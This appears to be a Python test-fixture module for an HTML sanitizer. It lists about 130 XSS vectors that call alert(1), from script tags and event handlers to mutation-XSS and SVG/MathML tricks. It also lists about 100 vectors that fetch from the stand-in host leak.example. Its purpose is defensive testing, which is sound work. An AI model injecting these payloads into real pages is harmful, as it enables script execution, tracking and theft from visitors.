"""Hostile HTML: our own vectors, and the shared samples where they are present.

Own vectors call `alert` when they run, and ask for something at leak.example when they fetch; over
plain http, so that a server can tell a request from a mere connection.
"""

# ruff: noqa: E501 - a vector stands on one line

import json
import os
import re
from pathlib import Path
from typing import NamedTuple

ROOT = Path(__file__).resolve().parents[3]
SHARED = Path(os.environ.get("CCC_SHARED", ROOT.parent / "shared"))
SAMPLES = SHARED / "samples" / "html"
SAMPLES_ABSENT = f"the shared samples are not here ({SAMPLES}); CCC_SHARED names another place"


class Vector(NamedTuple):
    """One piece of hostile HTML."""

    name: str
    html: str


def shared_vectors() -> list[Vector]:
    """Every vector of the shared samples; empty when they are absent."""
    if not SAMPLES.is_dir():
        return []
    return _cheatsheet() + _loofah()


def all_vectors() -> list[Vector]:
    return OWN + shared_vectors()


def _cheatsheet() -> list[Vector]:
    text = (SAMPLES / "h5sc_vectors.txt").read_text("utf-8")
    parts = re.split(r'<div id="(\d+)">', text)
    return [
        Vector(f"h5sc-{number}", f"<div>{body}")
        for number, body in zip(parts[1::2], parts[2::2], strict=True)
        if number.isdigit()
    ]


def _loofah() -> list[Vector]:
    text = (SAMPLES / "loofah_sanitizer_tests1.dat").read_text("utf-8")
    # Comments stand at the end of lines; no line's string ends like one.
    text = re.sub(r"/\*[^*\n]*\*/[ \t]*$", "", text, flags=re.MULTILINE)
    return [Vector(f"loofah-{case['name']}", case["input"]) for case in json.loads(text)]


_RUNS = {
    "script": "<script>alert(1)</script>",
    "script-src": "<script src=http://leak.example/x.js></script>",
    "script-module": "<script type=module>alert(1)</script>",
    "script-broken": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script-slash": "<script/x>alert(1)</script/x>",
    "script-double-escaped": "<script><!--<script></script>--></script><img src=x onerror=alert(1)>",
    "script-svg": "<svg><script>alert(1)</script></svg>",
    "script-svg-entities": "<svg><script>&#97;lert(1)</script></svg>",
    "script-svg-href": "<svg><script href=http://leak.example/x.js /></svg>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-slash": "<img/src=x/onerror=alert(1)>",
    "img-onerror-case": "<IMG SRC=x OnErRoR=alert(1)>",
    "img-onerror-quotes": "<img src='x'onerror=alert(1)>",
    "img-onerror-backtick": "<img src=`x`onerror=alert(1)>",
    "img-onerror-formfeed": "<img src=x\fonerror=alert(1)>",
    "img-onload-data": "<img src=data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7 onload=alert(1)>",
    "image-alias": "<image src=x onerror=alert(1)>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-slash": "<svg/onload=alert(1)//",
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg-set-href": "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a>",
    "svg-use-data": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>",
    "svg-foreign": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "svg-desc": "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "svg-title": "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "svg-cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "svg-style-img": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "svg-p-style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "svg-p-title": '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
    "math-mtext": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "math-mglyph": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "math-annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    "math-href": "<math><mtext href=javascript:alert(1)>x</mtext></math>",
    "math-nested": '<math><mi><li><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mxss-noembed": '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    "mxss-noframes": '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    "mxss-iframe": '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "mxss-xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "mxss-title": '<title><p title="</title><img src=x onerror=alert(1)>">',
    "mxss-textarea": '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "mxss-style": '<style><p title="</style><img src=x onerror=alert(1)>">',
    "mxss-template": '<template><p title="</template><img src=x onerror=alert(1)>">',
    "mxss-comment": '<!--<p title="--><img src=x onerror=alert(1)>">',
    "mxss-comment-bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "mxss-comment-short": "<!--><img src=x onerror=alert(1)>-->",
    "mxss-comment-dash": "<!---><img src=x onerror=alert(1)>-->",
    "mxss-bogus": "<?<img src=x onerror=alert(1)>?>",
    "mxss-endtag": '</p title="><img src=x onerror=alert(1)>">',
    "mxss-select": "<select><template><img src=x onerror=alert(1)></template></select><select><style></select><img src=x onerror=alert(1)></style></select>",
    "mxss-plaintext": "<plaintext><img src=x onerror=alert(1)></plaintext>",
    "mxss-listing": '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>',
    "mxss-table": '<table><caption><svg><desc><table><caption></svg><style><a id="</style><img src=x onerror=alert(1)>">',
    "mxss-depth": "<div>" * 600 + '<svg><style><a title="</style><img src=x onerror=alert(1)>">',
    "mxss-formatting": '<b><table><svg><b></table><style><a title="</style><img src=x onerror=alert(1)>">',
    "mxss-attribute": '<a title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
    "mxss-entity-text": "&lt;img src=x onerror=alert(1)&gt;&amp;lt;script&amp;gt;alert(1)",
    "declarative-shadow": "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "a-javascript": "<a href=javascript:alert(1)>x</a>",
    "a-javascript-tab": "<a href='java\tscript:alert(1)'>x</a>",
    "a-javascript-newline": "<a href='java&#10;script:alert(1)'>x</a>",
    "a-javascript-control": "<a href='&#1;javascript:alert(1)'>x</a>",
    "a-javascript-entity": "<a href='&#x6a;avascript&colon;alert(1)'>x</a>",
    "a-javascript-case": "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "a-javascript-url": "<a href='javascript://x%0aalert(1)'>x</a>",
    "a-data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "a-vbscript": "<a href='vbscript:alert(1)'>x</a>",
    "a-blob": "<a href='blob:http://leak.example/x'>x</a>",
    "a-onclick": "<a href=# onclick=alert(1)>x</a>",
    "a-onmouseover": "<a onmouseover=alert(1)>x</a>",
    "a-target-top": "<a href=javascript:alert(1) target=_top>x</a>",
    "area": "<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m src=x>",
    "base-javascript": "<base href='javascript:alert(1)//'><a href=x>x</a>",
    "form-action": "<form action=javascript:alert(1)><button>x</button></form>",
    "form-button": "<form><button formaction=javascript:alert(1)>x</button></form>",
    "form-autofocus": "<input autofocus onfocus=alert(1)>",
    "form-select": "<select autofocus onfocus=alert(1)>",
    "form-textarea": "<textarea autofocus onfocus=alert(1)>",
    "form-image": "<form><input type=image src=x onerror=alert(1)></form>",
    "button-popover": "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>y</div>",
    "iframe-javascript": "<iframe src=javascript:alert(1)></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "iframe-srcdoc-parent": "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    "iframe-data": "<iframe src='data:text/html,<script>parent.alert(1)</script>'></iframe>",
    "iframe-onload": "<iframe onload=alert(1)></iframe>",
    "frameset": "<frameset><frame src=javascript:alert(1)></frameset>",
    "object-data": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "object-javascript": "<object data=javascript:alert(1)></object>",
    "object-onerror": "<object data=x onerror=alert(1)></object>",
    "embed-javascript": "<embed src=javascript:alert(1)>",
    "embed-onload": "<embed src=data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20onload=%22alert(1)%22/%3E>",
    "video-source": "<video><source onerror=alert(1)></video>",
    "video-onerror": "<video src=x onerror=alert(1)></video>",
    "audio-onerror": "<audio src=x onerror=alert(1)></audio>",
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "body-onload": "<body onload=alert(1)>x",
    "body-onpageshow": "<body onpageshow=alert(1)>x",
    "html-onload": "<html onload=alert(1)>x",
    "style-onload": "<style onload=alert(1)></style>",
    "link-onload": "<link rel=stylesheet href=data:text/css, onload=alert(1)>",
    "link-onerror": "<link rel=stylesheet href=x onerror=alert(1)>",
    "meta-refresh-javascript": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "meta-refresh-data": "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "animation-event": "<style>@keyframes x{}</style><div style='animation-name:x' onanimationstart=alert(1)>x</div>",
    "transition-event": "<style>:target{color:red}</style><div id=x style='transition:color 1s' ontransitionend=alert(1)>x</div>",
    "scroll-event": "<div style='overflow:auto;height:9px' onscroll=alert(1)><br><br><br><input autofocus>",
    "content-visibility": "<div oncontentvisibilityautostatechange=alert(1) style='display:block;content-visibility:auto'>x",
    "custom-onfocus": "<xss id=x tabindex=1 autofocus onfocus=alert(1)>x</xss>",
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "keygen": "<keygen autofocus onfocus=alert(1)>",
    "xml-stylesheet": "<?xml-stylesheet type=text/xsl href=data:,x?><img src=x onerror=alert(1)>",
    "css-expression": "<div style='width:expression(alert(1))'>x</div>",
    "css-javascript-url": '<div style="background:url(javascript:alert(1))">x</div>',
    "css-break-out": '<div style="color:red}</style><img src=x onerror=alert(1)>">x</div>',
    "css-font-break-out": "<p style=\"font-family:'x&quot;><img src=x onerror=alert(1)>'\">x",
    "attribute-duplicate": "<img src=x src=y onerror=alert(1) onerror=alert(2)>",
    "attribute-nul": "<img src=x o\x00nerror=alert(1)>",
    "attribute-equals": '<img ="x onerror=alert(1)" src=x onerror=alert(1)>',
    "attribute-angle": "<img src=x alt=<script onerror=alert(1)>",
    "attribute-no-space": '<a title="x"onmouseover="alert(1)"href="#">x</a>',
    "attribute-unclosed": '<img src="x" title="<img src=x onerror=alert(1)>',
    "tag-name-colon": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "surrogate": "<img src=x onerror=alert(1) title=\ud83d>",
    "clobber": "<form id=document><input name=cookie></form><img name=body><a id=location href=x>",
    "data-src-html": "<img src='data:text/html,<script>alert(1)</script>'>",
    "data-svg": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    "placeholder-forged": "<img src=\"x-blocked:\" onerror=alert(1)><a href='x-warned:javascript:alert(1)'>x</a><img src='x-cid:\" onerror=alert(1)'>",
}

_FETCHES = {
    "img": "<img src=http://leak.example/a.png>",
    "img-protocol-relative": "<img src=//leak.example/a.png>",
    "img-backslash": "<img src='\\\\leak.example/a.png'>",
    "img-no-slashes": "<img src='http:leak.example/a.png'>",
    "img-tab": "<img src='ht\ttp://leak.example/a.png'>",
    "img-relative": "<img src=relative.png>",
    "img-srcset": "<img srcset='http://leak.example/a.png 1x'>",
    "img-srcset-sizes": "<img srcset='http://leak.example/a.png 100w' sizes=100px src=data:,>",
    "img-lowsrc": "<img lowsrc=http://leak.example/a.png dynsrc=http://leak.example/b>",
    "img-lazy": "<img loading=eager src=http://leak.example/a.png>",
    "img-ftp": "<img src=ftp://leak.example/a.png>",
    "img-cid": "<img src=cid:a@b>",
    "picture": "<picture><source srcset=http://leak.example/a.png><img src=data:,></picture>",
    "input-image": "<input type=image src=http://leak.example/a.png>",
    "video-poster": "<video poster=http://leak.example/a.png src=http://leak.example/v.mp4 autoplay>",
    "audio": "<audio src=http://leak.example/a.mp3 autoplay>",
    "track": "<video src=data:, ><track default src=http://leak.example/t.vtt>",
    "table-background": "<table background=http://leak.example/a.png><tr><td background=//leak.example/b.png>x",
    "body-background": "<body background=http://leak.example/a.png>x",
    "style-background": "<div style='background:url(http://leak.example/a.png)'>x</div>",
    "style-background-quoted": "<div style=\"background-image:url('http://leak.example/a.png')\">x</div>",
    "style-background-escaped": "<div style='background:\\75\\72\\6c(http://leak.example/a.png)'>x</div>",
    "style-background-comment": "<div style='background:ur/**/l(http://leak.example/a),url(/**/http://leak.example/b)'>x</div>",
    "style-image-set": "<div style=\"background-image:image-set('http://leak.example/a.png' 1x)\">x</div>",
    "style-webkit-image-set": '<div style="background:-webkit-image-set(url(http://leak.example/a.png) 1x)">x</div>',
    "style-cross-fade": '<div style="background:-webkit-cross-fade(url(http://leak.example/a),url(http://leak.example/b),50%)">x</div>',
    "style-var": "<div style='--x:url(http://leak.example/a.png);background:var(--x)'>x</div>",
    "style-src-function": "<div style=\"background-image:src('http://leak.example/a.png')\">x</div>",
    "style-list": "<ul style='list-style:url(http://leak.example/a.png)'><li>x</ul>",
    "style-list-image": "<ul style='list-style-image:url(http://leak.example/a.png)'><li>x</ul>",
    "style-content": '<div style="content:url(http://leak.example/a.png)">x</div>',
    "style-cursor": "<div style='cursor:url(http://leak.example/a.cur),auto'>x</div>",
    "style-border-image": "<div style='border:9px solid;border-image:url(http://leak.example/a.png) 1'>x</div>",
    "style-mask": "<div style='mask-image:url(http://leak.example/a.png)'>x</div>",
    "style-webkit-mask": "<div style='-webkit-mask:url(http://leak.example/a.png)'>x</div>",
    "style-filter": "<div style='filter:url(http://leak.example/a.svg#f)'>x</div>",
    "style-backdrop": "<div style='backdrop-filter:url(http://leak.example/a.svg#f)'>x</div>",
    "style-clip": "<div style='clip-path:url(http://leak.example/a.svg#c)'>x</div>",
    "style-shape": "<div style='float:left;shape-outside:url(http://leak.example/a.png)'>x</div>",
    "style-offset": "<div style='offset-path:url(http://leak.example/a.svg#p)'>x</div>",
    "style-unclosed": '<div style="background:url(\'http://leak.example/a.png">x</div>',
    "style-attr-function": '<div data-x=http://leak.example/a.png style="background:image-set(attr(data-x))">x</div>',
    "style-nested-rule": '<div style="color:red;&{background:url(http://leak.example/a.png)}">x</div>',
    "style-font-string": "<div style=\"font-family:'x\\27;background:url(http://leak.example/a.png)'\">x</div>",
    "style-element": "<style>body{background:url(http://leak.example/a.png)}</style>x",
    "style-element-import": "<style>@import 'http://leak.example/a.css';</style>x",
    "style-element-import-url": "<style>@import url(http://leak.example/a.css);</style>x",
    "style-element-font": "<style>@font-face{font-family:y;src:url(http://leak.example/f)}p{font-family:y}</style><p>x",
    "style-element-svg": "<svg><style>@import 'http://leak.example/a.css';</style></svg>",
    "style-element-namespace": "<style>@namespace url(http://leak.example/a);p{color:red}</style><p>x",
    "style-element-selector": "<style>[title^=a]{background:url(http://leak.example/a)}</style><p title=abc>x",
    "style-element-nested": "<style>p{color:red;& b{background:url(http://leak.example/a)}}</style><p><b>x",
    "link-stylesheet": "<link rel=stylesheet href=http://leak.example/a.css>",
    "link-icon": "<link rel=icon href=http://leak.example/a.ico>",
    "link-prefetch": "<link rel=prefetch href=http://leak.example/a>",
    "link-preload": "<link rel=preload as=image href=http://leak.example/a>",
    "link-modulepreload": "<link rel=modulepreload href=http://leak.example/a.js>",
    "link-manifest": "<link rel=manifest href=http://leak.example/a>",
    "link-dns-prefetch": "<link rel=dns-prefetch href=//leak.dns.example>",
    "link-preconnect": "<link rel=preconnect href=http://pre.leak.example>",
    "link-prerender": "<link rel=prerender href=http://leak.example/a>",
    "link-import": "<link rel=import href=http://leak.example/a>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=http://leak.example/a'>",
    "meta-refresh-bare": "<meta http-equiv=refresh content='0 http://leak.example/a'>",
    "meta-link": "<meta http-equiv=link content='<http://leak.example/a.css>; rel=stylesheet'>",
    "meta-csp-report": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri http://leak.example/r\"><img src=x>",
    "base": "<base href=http://leak.example/><img src=a.png>",
    "iframe": "<iframe src=http://frame.leak.example/a></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<img src=http://leak.example/a>'></iframe>",
    "frame": "<frameset><frame src=http://frame.leak.example/a></frameset>",
    "object": "<object data=http://leak.example/a></object>",
    "object-param": "<object type=text/html><param name=src value=http://leak.example/a></object>",
    "embed": "<embed src=http://leak.example/a>",
    "applet": "<applet archive=http://leak.example/a code=x></applet>",
    "svg-image": "<svg><image href=http://leak.example/a.png width=9 height=9></svg>",
    "svg-image-xlink": "<svg><image xlink:href=http://leak.example/a.png width=9 height=9></svg>",
    "svg-use": "<svg><use href=http://leak.example/a.svg#x></svg>",
    "svg-feimage": "<svg><filter id=f><feImage href=http://leak.example/a.png /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    "svg-fill": "<svg><rect fill=url(http://leak.example/a.svg#x) width=9 height=9 /></svg>",
    "svg-filter": "<svg><rect filter=url(http://leak.example/a.svg#x) width=9 height=9 /></svg>",
    "svg-font": "<svg><font-face><font-face-src><font-face-uri href=http://leak.example/f /></font-face-src></font-face></svg>",
    "svg-data-img": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://leak.example/a'/></svg>\">",
    "bgsound": "<bgsound src=http://leak.example/a.wav>",
    "html-manifest": "<html manifest=http://leak.example/m>x",
    "head-profile": "<head profile=http://leak.example/p>x",
    "blockquote-cite": "<blockquote cite=http://leak.example/a>x</blockquote><q cite=http://leak.example/b>y</q>",
    "form-autosubmit": "<form action=http://leak.example/f><input type=submit autofocus></form>",
    "ping": "<a href=# ping=http://leak.example/p>x</a>",
    "longdesc": "<img longdesc=http://leak.example/l src=data:,>",
    "portal": "<portal src=http://frame.leak.example/a></portal>",
    "fencedframe": "<fencedframe src=http://frame.leak.example/a></fencedframe>",
    "attributionsrc": "<img attributionsrc=http://leak.example/r src=data:,>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://leak.example/s"]}]}</script>',
    "importmap": '<script type=importmap>{"imports":{"x":"http://leak.example/i.js"}}</script><script type=module>import \'x\'</script>',
    "noscript-img": "<noscript><img src=http://leak.example/n></noscript>",
    "vml": "<v:fill src=http://leak.example/v.png xmlns:v=urn:schemas-microsoft-com:vml />",
    "conditional-comment": "<!--[if mso]><img src=http://leak.example/c><![endif]--><![if !mso]><img src=http://leak.example/d><![endif]>",
    "nested-cdata": "<svg><![CDATA[<img src=http://leak.example/a>]]></svg><![CDATA[<img src=http://leak.example/b>]]>",
}

OWN = [Vector(f"run-{name}", html) for name, html in _RUNS.items()] + [
    Vector(f"fetch-{name}", html) for name, html in _FETCHES.items()
]
